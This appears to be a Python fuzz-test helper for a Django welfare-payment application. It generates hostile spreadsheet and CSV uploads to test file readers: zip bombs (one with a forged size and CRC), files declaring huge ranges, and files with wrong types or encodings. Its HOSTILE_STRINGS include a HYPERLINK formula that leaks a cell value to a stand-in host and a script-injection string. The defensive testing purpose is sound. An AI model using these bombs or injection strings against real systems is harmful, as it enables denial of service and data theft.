"""Hostile table files for the upload fuzz tests: huge declared ranges, zip bombs, wrong
types, wrong encodings, truncated archives, formula and markup strings.

Each maker writes into a folder and returns the path. Also runnable as a script that reads
one file with one reader and prints its peak memory (the fuzz test measures each bomb in a
subprocess):  python tests/core/hostile.py READER PATH
"""
from __future__ import annotations

import io
import sys
import zipfile
import zlib
from pathlib import Path

HEADER = ["STT", "Họ và tên", "Ngày sinh", "Số CCCD", "Địa chỉ"]
BANK_HEADER = ["Họ tên", "Số định danh", "Số tài khoản", "Ngày mở"]
RESULT_HEADER = ["line_id", "status", "reason", "paid_date", "amount"]

HOSTILE_STRINGS = ['=HYPERLINK("http://x.invalid/?"&A1,"bấm")', "<script>alert(1)</script>", "<b>Đậm</b>",
                   "+1+1", "@SUM(A1)", "-2+3", "\tTab", "Nguyễn <i>Văn</i> An & Co"]

_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
       '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
       '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
       '<Default Extension="xml" ContentType="application/xml"/>'
       '<Override PartName="/xl/workbook.xml" '
       'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
       '<Override PartName="/xl/worksheets/sheet1.xml" '
       'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
       '</Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
         'officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WB = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
       '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
       'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
       '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WB_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'worksheet" Target="worksheets/sheet1.xml"/></Relationships>')


def _esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _col(c: int) -> str:
    s = ""
    c += 1
    while c:
        c, r = divmod(c - 1, 26)
        s = chr(65 + r) + s
    return s


def sheet_xml(rows: list[list], *, dimension: str | None = None, extra_cells: str = "", pad: bytes = b"") -> bytes:
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">']
    if dimension:
        out.append(f'<dimension ref="{dimension}"/>')
    out.append("<sheetData>")
    for i, row in enumerate(rows, start=1):
        out.append(f'<row r="{i}">')
        for j, v in enumerate(row):
            if v is None or v == "":
                continue
            ref = f"{_col(j)}{i}"
            if isinstance(v, (int, float)):
                out.append(f'<c r="{ref}"><v>{v}</v></c>')
            else:
                out.append(f'<c r="{ref}" t="inlineStr"><is><t>{_esc(str(v))}</t></is></c>')
        out.append("</row>")
    out.append(extra_cells)
    out.append("</sheetData></worksheet>")
    return "".join(out).encode() + pad


def write_xlsx(path: Path, sheet: bytes) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", _CT)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WB)
        z.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
    return path


def commune_rows(names=("Nguyễn Văn An", "Trần Thị Bình")) -> list[list]:
    return [HEADER] + [[i, n, "01/02/1950", f"0201500{i:05d}", "Thôn Nà Pàn"] for i, n in enumerate(names, 1)]


def bank_rows(names=("NGUYEN VAN AN",)) -> list[list]:
    return [BANK_HEADER] + [[n, f"0201500{i:05d}", f"10000{i:05d}", "01/03/2024"] for i, n in enumerate(names, 1)]


def result_rows() -> list[list]:
    return [RESULT_HEADER, [1, "paid", "", "2024-12-20", 500000]]


# --------------------------------------------------------------------------- hostile makers

def far_cell_xlsx(path: Path, rows: list[list]) -> Path:
    """A valid small list plus one cell at the sheet's last corner (XFD1048576)."""
    extra = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return write_xlsx(path, sheet_xml(rows, extra_cells=extra))


def declared_range_xlsx(path: Path, rows: list[list]) -> Path:
    """A valid small list whose <dimension> declares the whole sheet."""
    return write_xlsx(path, sheet_xml(rows, dimension="A1:XFD1048576"))


def no_ref_wide_xlsx(path: Path, rows: list[list]) -> Path:
    """Cells without r= (positions follow each other): 5,000 columns in one row."""
    extra = '<row r="%d">' % (len(rows) + 1) + "<c><v>1</v></c>" * 5000 + "</row>"
    return write_xlsx(path, sheet_xml(rows, extra_cells=extra))


def zip_bomb_xlsx(path: Path, rows: list[list], inflated: int = 2 * 1024 ** 3, lie: bool = False) -> Path:
    """A valid list whose sheet XML ends with `inflated` bytes of spaces (deflate squeezes them
    about 1000:1). lie=True: the archive declares the sheet to be small (size and CRC of a
    1 KB prefix), so only inflating shows what it is."""
    head = sheet_xml(rows)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", _CT)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WB)
        z.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [co.compress(head)]
    crc = zlib.crc32(head)
    block = b" " * (16 * 1024 * 1024)
    left = inflated
    while left > 0:
        b = block if left >= len(block) else block[:left]
        parts.append(co.compress(b))
        crc = zlib.crc32(b, crc)
        left -= len(b)
    parts.append(co.flush())
    comp = b"".join(parts)
    size = len(head) + inflated
    if lie:
        size = 1024
        crc = zlib.crc32((head + b" " * 1024)[:1024])
    _append_raw_entry(path, "xl/worksheets/sheet1.xml", comp, crc, size)
    return path


def _append_raw_entry(path: Path, name: str, comp: bytes, crc: int, size: int) -> None:
    import struct

    data = path.read_bytes()
    eocd = data.rfind(b"PK\x05\x06")
    n_entries, cd_size, cd_off = struct.unpack("<HII", data[eocd + 10:eocd + 20])
    body, cd = data[:cd_off], data[cd_off:cd_off + cd_size]
    fname = name.encode()
    size32 = min(size, 0xFFFFFFFF)
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc & 0xFFFFFFFF, len(comp), size32,
                        len(fname), 0) + fname
    off = len(body)
    central = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc & 0xFFFFFFFF, len(comp), size32,
                          len(fname), 0, 0, 0, 0, 0, off) + fname
    new_body = body + local + comp
    new_cd = cd + central
    eocd_rec = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, n_entries + 1, n_entries + 1, len(new_cd),
                           len(new_body), 0)
    path.write_bytes(new_body + new_cd + eocd_rec)


def ods(path: Path, rows: list[list], extra_rows: str = "") -> Path:
    T = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    body = []
    for row in rows:
        body.append("<table:table-row>")
        for v in row:
            if isinstance(v, (int, float)):
                body.append(f'<table:table-cell office:value-type="float" office:value="{v}"><text:p>{v}</text:p>'
                            "</table:table-cell>")
            else:
                body.append(f'<table:table-cell office:value-type="string"><text:p>{_esc(str(v))}</text:p>'
                            "</table:table-cell>")
        body.append("</table:table-row>")
    content = ('<?xml version="1.0" encoding="UTF-8"?>'
               '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               f'xmlns:table="{T}" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               '<office:body><office:spreadsheet><table:table table:name="Sheet1">'
               + "".join(body) + extra_rows
               + "</table:table></office:spreadsheet></office:body></office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                "</manifest:manifest>")
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
        z.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
    return path


def repeated_ods(path: Path, rows: list[list]) -> Path:
    """A valid small list plus one row repeated a million times with a cell repeated 16,384 times."""
    extra = ('<table:table-row table:number-rows-repeated="1048000">'
             '<table:table-cell table:number-columns-repeated="16384" office:value-type="string">'
             "<text:p>x</text:p></table:table-cell></table:table-row>")
    return ods(path, rows, extra)


def csv_bytes(rows: list[list], encoding: str = "utf-8", delimiter: str = ",") -> bytes:
    import csv

    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter).writerows(rows)
    text = buf.getvalue()
    if encoding == "cp1258":          # Windows Vietnamese: base letters plus combining tone marks
        import unicodedata

        return unicodedata.normalize("NFD", text).encode("cp1258", errors="replace")
    return text.encode(encoding)


PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
       b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82")

# TCVN3 bytes of "Nguyễn Văn An" as an old font would type them (not valid UTF-8)
TCVN3_NAME = "Nguyôn V¨n An".encode("latin-1")


def hostile_files(folder: Path, kind: str, ext: str, *, bombs: bool = True) -> dict[str, Path]:
    """{label: path} of hostile files for one upload path. kind: commune | bank | population |
    result; ext: the file extension that path accepts for spreadsheets (.xlsx) — csv variants
    are added for every kind."""
    folder.mkdir(parents=True, exist_ok=True)
    rows = {"commune": commune_rows, "population": commune_rows, "bank": bank_rows,
            "result": result_rows}[kind]()
    hostile_rows = [rows[0]] + [[(h if j == 1 else v) for j, v in enumerate(rows[1])] for h in HOSTILE_STRINGS]
    out: dict[str, Path] = {}

    def put(label: str, name: str, data: bytes | None = None, maker=None) -> None:
        p = folder / f"{label}{name}"
        if maker is not None:
            maker(p)
        else:
            p.write_bytes(data)
        out[label] = p

    put("far_cell", ".xlsx", maker=lambda p: far_cell_xlsx(p, rows))
    put("declared_range", ".xlsx", maker=lambda p: declared_range_xlsx(p, rows))
    put("no_ref_wide", ".xlsx", maker=lambda p: no_ref_wide_xlsx(p, rows))
    put("repeated_ods", ".ods", maker=lambda p: repeated_ods(p, rows))
    if bombs:
        put("zip_bomb", ".xlsx", maker=lambda p: zip_bomb_xlsx(p, rows))
        put("zip_bomb_lying", ".xlsx", maker=lambda p: zip_bomb_xlsx(p, rows, inflated=700 * 1024 ** 2, lie=True))
    put("png_as_xlsx", ".xlsx", PNG)
    good = folder / "_good.xlsx"
    write_xlsx(good, sheet_xml(rows))
    put("xlsx_as_csv", ".csv", good.read_bytes())
    put("truncated_zip", ".xlsx", good.read_bytes()[: len(good.read_bytes()) // 2])
    good.unlink()
    put("empty", ".xlsx", b"")
    put("empty_csv", ".csv", b"")
    put("utf16", ".csv", csv_bytes(rows, "utf-16"))
    put("cp1258", ".csv", csv_bytes(rows, "cp1258", ";"))
    put("tcvn3", ".csv", csv_bytes(rows, "utf-8").replace("Nguyễn Văn An".encode(), TCVN3_NAME))
    put("invalid_utf8", ".csv", csv_bytes(rows) + b"\xff\xfe\xc3(\x80\n")
    put("nul_bytes", ".csv", csv_bytes(rows).replace(b",", b"\x00,", 2))
    put("huge_field", ".csv", csv_bytes(rows) + b'"' + b"x" * 300_000 + b'"\n')
    put("wide_csv", ".csv", csv_bytes(rows) + b",".join([b"1"] * 5000) + b"\n")
    put("formula_markup", ".xlsx", maker=lambda p: write_xlsx(p, sheet_xml(hostile_rows)))
    put("formula_markup_csv", ".csv", csv_bytes(hostile_rows))
    return out


# --------------------------------------------------------------------------- peak memory of one read

def _prepare(reader: str):
    """Import what the reader needs (Django set up for the service readers) and return it."""
    if reader == "limits":
        from ansinh.core.limits import check_table_file

        return check_table_file
    if reader == "registry":
        from ansinh.registry.reader import read_list

        return read_list
    import os

    import django

    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "ansinh.settings")
    django.setup()
    if reader == "bank":
        from ansinh.accounts.bank_lists import parse_bank_list

        return lambda p: parse_bank_list(Path(p))
    if reader == "population":
        from ansinh.matching.services import _population

        return _population
    from ansinh.payroll.files import read_result

    return read_result


def _hwm() -> int:
    return next(int(ln.split()[1]) for ln in Path("/proc/self/status").read_text().splitlines()
                if ln.startswith("VmHWM:"))


if __name__ == "__main__":
    import json
    import os
    import resource

    reader, path = sys.argv[1], sys.argv[2]
    cap = int(os.environ.get("HOSTILE_RLIMIT_AS", "0"))
    if cap:   # a safety net for measuring the original code, never on by default
        resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
    read = _prepare(reader)
    base = _hwm()
    try:
        read(path)
        outcome = "ok"
    except MemoryError:
        outcome = "MemoryError"
    except Exception as exc:  # noqa: BLE001 - report the outcome, the test judges it
        outcome = f"{type(exc).__name__}: {exc}"
    # VmHWM: this process image's peak resident memory (ru_maxrss on Linux also counts the
    # parent's memory when the process was forked from a big one, e.g. pytest)
    print(json.dumps({"outcome": outcome[:300], "peak_kib": _hwm(), "before_read_kib": base,
                      "ru_maxrss_kib": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}, ensure_ascii=False))
